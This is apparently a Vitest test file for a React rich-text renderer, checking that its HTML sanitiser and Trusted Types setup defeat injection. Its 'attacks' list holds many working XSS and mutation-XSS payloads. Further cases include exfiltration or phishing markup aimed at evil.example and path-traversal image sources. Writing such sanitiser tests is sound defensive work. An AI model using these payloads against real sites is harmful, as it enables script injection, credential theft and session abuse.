import { accessible } from '../../kit/accessible.ts'
import { createRoot } from 'react-dom/client'
import { afterEach, beforeAll, describe, expect, inject, it } from 'vitest'
import tokens from '../../generated/deferred-tokens.css?inline'
import base from '../../kit/styles/base.css?inline'
import { until } from '../../kit/test-harness.ts'
import styles from './rich-text.css?inline'
import { RichText, plainText } from './rich-text.tsx'

declare global {
  interface Window {
    ran?: string[]
  }
}

const violations: string[] = []
let end = () => {}
afterEach(() => end())

/** From here on the page's CSP requires Trusted Types and allows only our policy. */
beforeAll(() => {
  document.addEventListener('securitypolicyviolation', ({ violatedDirective, sample }) =>
    violations.push(`${violatedDirective} ${sample}`),
  )
  const meta = document.createElement('meta')
  meta.httpEquiv = 'content-security-policy'
  meta.content = "require-trusted-types-for 'script'; trusted-types lustra-html"
  document.head.append(meta)
})

async function drawText(html: string, highlight = '') {
  window.ran = []
  const host = document.body.appendChild(document.createElement('div'))
  const shadow = host.attachShadow({ mode: 'open' })
  const stylesheet = new CSSStyleSheet()
  stylesheet.replaceSync(tokens + base + styles)
  shadow.adoptedStyleSheets = [stylesheet]
  const stage = shadow.appendChild(document.createElement('main'))
  stage.className = 'frame'
  stage.style.width = '360px'
  const root = createRoot(stage)
  const failed: Event[] = []
  const image = () => void failed.push(new Event('failed'))
  const show = (text: string, keyword = '') =>
    root.render(
      <RichText html={text} imageBase="/api" tableLabel="Table" highlight={keyword} onImageFailed={image} />,
    )
  show(html, highlight)
  end = () => (root.unmount(), host.remove())
  const box = await until(() => stage.querySelector<HTMLElement>('.rich-text'))
  // Time for an injected handler or script to run.
  for (let frame = 0; frame < 3; frame++) await new Promise(requestAnimationFrame)
  const inner = () => [...box.querySelectorAll('*')]
  return { host, stage, box, inner, show, failed }
}

/** Every injected script records its run in `ran`. */
const attack = `window.ran.push('x')`
const attacks: [name: string, html: string][] = [
  ['a script', `<script>${attack}</script><p>ok</p>`],
  ['a script in mixed case', `<ScRiPt >${attack}</ScRiPt><p>ok</p>`],
  ['a nested script', `<scr<script></script>ipt>${attack}</scr</script>ipt><p>ok</p>`],
  ['an error handler', `<img src=x onerror="${attack}"><p>ok</p>`],
  ['a handler behind slashes', `<img/src='x'/onerror=${attack}><p>ok</p>`],
  [
    'handlers on a paragraph',
    `<p onclick="${attack}" onpointerenter="${attack}" onanimationstart="${attack}">ok</p>`,
  ],
  ['a script URL', `<a href="javascript:${attack}">ok</a>`],
  ['a script URL with control characters', `<a href="java\tscr\nipt&colon;${attack}">ok</a>`],
  ['a data URL', `<a href="data:text/html,<script>${attack}</script>">ok</a>`],
  ['a data URL as picture', `<img src="data:image/svg+xml,<svg onload=${attack}>"><p>ok</p>`],
  ['a vbscript URL', `<a href="vbscript:msgbox(1)">ok</a>`],
  [
    'an SVG',
    `<svg onload="${attack}"><script>${attack}</script><a href="javascript:${attack}">x</a></svg><p>ok</p>`,
  ],
  [
    'an SVG with foreign content',
    `<svg><foreignObject><img src=x onerror="${attack}"></foreignObject></svg><p>ok</p>`,
  ],
  [
    'an animated address',
    `<svg><a><animate attributeName=href values="javascript:${attack}"/>x</a></svg><p>ok</p>`,
  ],
  ['a formula', `<math><mi href="javascript:${attack}">x</mi></math><p>ok</p>`],
  [
    'a mutation by a table in MathML',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${attack}&gt;">`,
  ],
  [
    'a mutation by a nested form',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${attack}>`,
  ],
  [
    'a mutation by noscript',
    `<noscript><p title="</noscript><img src=x onerror=${attack}>"></noscript><p>ok</p>`,
  ],
  [
    'a mutation by a template',
    `<template><p title="</template><img src=x onerror=${attack}>"></template><p>ok</p>`,
  ],
  ['a mutation by a comment', `<p>ok</p><!--><img src=x onerror=${attack}>-->`],
  ['a mutation by a textarea', `<textarea><img title="</textarea><img src=x onerror=${attack}>">`],
  ['a mutation by a title', `<svg></p><title><a id="</title><img src=x onerror=${attack}>">`],
  [
    'a shadow root in markup',
    `<div><template shadowrootmode=open><img src=x onerror="${attack}"></template></div>`,
  ],
  ['a style', `<style>*{display:none;background:url(https://evil.example/x)}</style><p>ok</p>`],
  ['a style attribute', `<p style="position:fixed;inset:0;background:url(https://evil.example/x)">ok</p>`],
  ['a base', `<base href="https://evil.example/"><p>ok</p>`],
  ['a redirect', `<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>ok</p>`],
  ['a form', `<form action="https://evil.example/"><input name=password><button>ok</button></form>`],
  [
    'a frame',
    `<iframe srcdoc="<script>parent.${attack}</script>"></iframe><iframe src="javascript:${attack}"></iframe>`,
  ],
  ['an object', `<object data="javascript:${attack}"></object><embed src="javascript:${attack}">`],
  ['unclosed markup', `<p>ok</p><img src='https://evil.example/?`],
  ['DOM clobbering', `<img name=body id=cookie><a id=location name=attributes>ok</a>`],
  ['custom elements', `<lustra-login is="x"></lustra-login><x-y onclick="${attack}">ok</x-y>`],
  ['a slot and a part', `<slot name=header></slot><p slot=header part=table class=modal>ok</p>`],
  [
    'audio and video',
    `<video poster="https://evil.example/x"><source onerror="${attack}"></video><audio src onerror="${attack}">`,
  ],
  ['a stylesheet link', `<link rel=stylesheet href="https://evil.example/x"><p>ok</p>`],
  [
    'a picture with many sources',
    `<picture><source srcset="https://evil.example/x"><img src="https://evil.example/y"></picture>`,
  ],
  ['deep nesting', `${'<div>'.repeat(3_000)}<img src=x onerror="${attack}">`],
]

const tags = new Set(
  'h3 h4 h5 h6 p div br hr blockquote pre code ul ol li dl dt dd a img figure figcaption strong b em i u s sub sup small bdi bdo table caption thead tbody tfoot tr th td'.split(
    ' ',
  ),
)
const attributes = new Set(
  'href rel target src alt width height colspan rowspan scope start reversed lang dir loading decoding'.split(
    ' ',
  ),
)

describe('a text of the server', () => {
  it('is shown on a page that requires Trusted Types (P1, P2)', async () => {
    expect(() => (document.createElement('p').innerHTML = '<b>x</b>')).toThrow(TypeError)
    await until(() => violations.length > 0)
    violations.length = 0
  })

  it.each(attacks)('does nothing with %s (P1, P2)', async (_, html) => {
    const { inner, stage } = await drawText(html)
    expect(window.ran).toEqual([])
    expect(stage.textContent).not.toContain('evil.example')
    for (const element of inner()) {
      expect(tags, element.outerHTML).toContain(element.localName)
      for (const { name, value } of element.attributes) {
        if (element.className === 'rich-table') continue
        expect(attributes, `${element.localName} ${name}`).toContain(name)
        expect(value).not.toMatch(/script:|evil|^data:/i)
      }
      expect(element.namespaceURI).toBe('http://www.w3.org/1999/xhtml')
    }
    expect(violations).toEqual([])
  })

  it('keeps what makes it readable (P1, P2)', async () => {
    const { box, host } = await drawText(
      `<h1>Rats</h1><p>Close <strong>every</strong> gap.</p><h3>How</h3><ol start="3"><li>Look</li></ol>
       <table><tr><th scope="col">Wide</th><td>${'x'.repeat(200)}</td></tr></table>
       <blockquote>Said</blockquote><figure><img src="/File/Open?ticket=1" alt="A gap"><figcaption>A gap</figcaption></figure>`,
    )
    expect(
      [...box.querySelectorAll('h3, h4')].map(({ localName, textContent }) => [localName, textContent]),
    ).toEqual([
      ['h3', 'Rats'],
      ['h4', 'How'],
    ])
    expect(box.querySelector('ol')!.start).toBe(3)
    expect(box.querySelector('img')!.src).toBe(`${location.origin}/api/File/Open?ticket=1`)
    const table = box.querySelector<HTMLElement>('.rich-table')!
    expect(table.scrollWidth).toBeGreaterThan(table.clientWidth)
    expect(box.scrollWidth).toBeLessThanOrEqual(box.clientWidth)
    await accessible(host)
  })

  it('opens links in a new tab and allows only https, mail and telephone (P1, P2)', async () => {
    const { box } = await drawText(
      `<a href="https://example.com/x" rel="opener" target="_self">one</a><a href="mailto:a@b.example">two</a>
       <a href="tel:+8621">three</a><a href="http://example.com">four</a><a href="/login">five</a>
       <a href="https://bank.example@evil.example/">six</a><a href="//evil.example">seven</a>`,
    )
    const links = [...box.querySelectorAll('a')]
    expect(links.map(({ textContent }) => textContent)).toEqual(['one', 'two', 'three'])
    expect(links.map(({ rel }) => rel)).toEqual(Array(3).fill('noopener noreferrer'))
    expect(links.map(({ target }) => target)).toEqual(['_blank', '', ''])
    for (const word of ['four', 'five', 'six', 'seven']) expect(box.textContent).toContain(word)
  })

  it('shows only stored files and logos of the API host, and reports one that did not load (P1, P2)', async () => {
    const { box, failed } = await drawText(
      [
        '/File/Open?ticket=1',
        'File/Open?ticket=2',
        `${location.origin}/api/File/Open?ticket=3`,
        '/api/File/Open?ticket=4',
        '/Group/Logo/HARBOUR?v=5',
      ]
        .concat(
          // Other calls of the API.
          '/Login/Logout',
          '/api/Login/GetUserInfo',
          'Promotion/Feedback?id=1',
          '/File/../Login/Logout',
          '/File/Open/../../Login/Logout',
          '/File/%2e%2e/Login/Logout',
          '/File/Open/more?ticket=1',
          '/Group/Logo/A/../../../Login/Logout',
          '/Group/Logo/A%2f..%2fB?v=1',
          '/File/OpenAll?ticket=1',
          'https://evil.example/x.png',
          '//evil.example/x.png',
          '/../login',
          'blob:x',
          '',
          '\\\\evil.example\\x',
        )
        .map((src) => `<img src="${src}">`)
        .join(''),
    )
    expect([...box.querySelectorAll('img')].map(({ src }) => src)).toEqual([
      ...[1, 2, 3, 4].map((ticket) => `${location.origin}/api/File/Open?ticket=${ticket}`),
      `${location.origin}/api/Group/Logo/HARBOUR?v=5`,
    ])
    await until(() => failed.length > 0)
  })

  it('highlights search hits in text only (P2)', async () => {
    const { box, show } = await drawText(
      '<p>Rats: <b>a rat</b> <a href="https://rat.example/">here</a></p>',
      'RAT',
    )
    expect([...box.querySelectorAll('mark')].map(({ textContent }) => textContent)).toEqual(['Rat', 'rat'])
    expect(box.querySelector('a')!.href).toBe('https://rat.example/')
    show('<p>Rats: <b>a rat</b></p>', '<b>')
    await until(() => !box.querySelector('mark'))
    expect(box.querySelectorAll('b')).toHaveLength(1)
  })

  it('of a million characters is shown within seconds (P2)', async () => {
    const began = performance.now()
    const { box } = await drawText(`<p>${'word <b>bold</b> '.repeat(60_000)}</p>`, 'word')
    expect(box.querySelectorAll('b')).toHaveLength(60_000)
    // Scaled, as machines of tests are slow at times.
    expect(performance.now() - began).toBeLessThan(inject('waitMs') / 3)
  })
})

describe('HTML as plain text', () => {
  it('keeps the text line by line, without tags, scripts and comments (P2)', () => {
    const html =
      '<h2>Rats &amp; mice</h2><p>Close <b>every</b> gap.<br>Then call.</p><script>alert("<p>x")</script><!-- x --><ul><li>One</li><li>Two</li></ul>'
    expect(plainText(html)).toBe('Rats & mice\nClose every gap.\nThen call.\nOne\nTwo')
  })

  it('keeps < outside of tags, and decodes entities once (P2)', () => {
    expect(plainText('<p>3 < 5 and 7 > 6</p>')).toBe('3 < 5 and 7 > 6')
    expect(plainText('&lt;b&gt; &#65;&#x42; &amp;lt;&nbsp;&unknown;')).toBe('<b> AB &lt; &unknown;')
  })

  it('converts a long text of unclosed tags in linear time (P2)', () => {
    const began = performance.now()
    expect(plainText('<script'.repeat(140_000))).toBe('')
    expect(plainText('<p'.repeat(300_000) + '&#'.repeat(100_000))).toBe('')
    expect(performance.now() - began).toBeLessThan(3_000)
  })
})
